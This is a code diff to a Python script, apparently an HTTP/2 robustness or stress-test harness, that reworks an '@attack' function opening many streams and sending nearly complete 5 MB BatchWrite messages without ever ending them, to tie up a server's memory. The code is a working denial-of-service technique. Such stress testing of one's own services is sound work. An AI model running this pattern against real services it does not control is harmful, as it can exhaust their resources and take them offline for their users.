@@ -14,6 +14,7 @@ import select
 import socket
 import time
 
+import http2_client
 from http2 import CANCEL, KV, MOST_DATA, Connection, field, header_block, literal, message
 from http2_client import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, RST_STREAM, frame)
 
@@ -144,25 +145,24 @@ def a_header_without_end(target, deadline):
 
 @attack
 def announced_and_unfinished_messages(target, deadline):
-    """Streams that each send all but the last byte of the largest batch."""
+    """Streams that each send of the largest batch what the windows let through, but its end."""
     size = 5 << 20
     streams = sent = 0
     for _ in until(deadline):
-        with contextlib.suppress(OSError):
-            one = Connection(target.data)
-            numbers = [one.next_stream() for _ in range(120)]
+        with contextlib.suppress(OSError), http2_client.Client(target.data) as client:
+            numbers = [client.start_call((KV + "BatchWrite").encode())
+                       for _ in range(min(120, client.max_streams))]
+            streams += len(numbers)
             for number in numbers:
-                head = message(b"\0" * size)[:5]
-                one.send(frame(HEADERS, END_HEADERS, number, header_block(KV + "BatchWrite"))
-                         + frame(DATA, 0, number, head))
-                streams += 1
-            for _ in range((size - 1) // MOST_DATA):
+                client.send(frame(DATA, 0, number, message(b"\0" * size)[:5]))
+            left = dict.fromkeys(numbers, size - 1)
+            while client.ended is None and time.monotonic() < deadline:
+                moved = 0
                 for number in numbers:
-                    if time.monotonic() > deadline:
-                        return f"{streams:,} streams, {sent / 1e6:,.0f} MB"
-                    one.send(frame(DATA, 0, number, b"\0" * MOST_DATA))
-                    sent += MOST_DATA
-            time.sleep(max(0.0, deadline - time.monotonic()))
+                    moved += (part := client.send_data(number, left[number]))
+                    left[number] -= part
+                sent += moved
+                time.sleep(0 if moved else 0.02)
     return f"{streams:,} streams, {sent / 1e6:,.0f} MB"
 
 
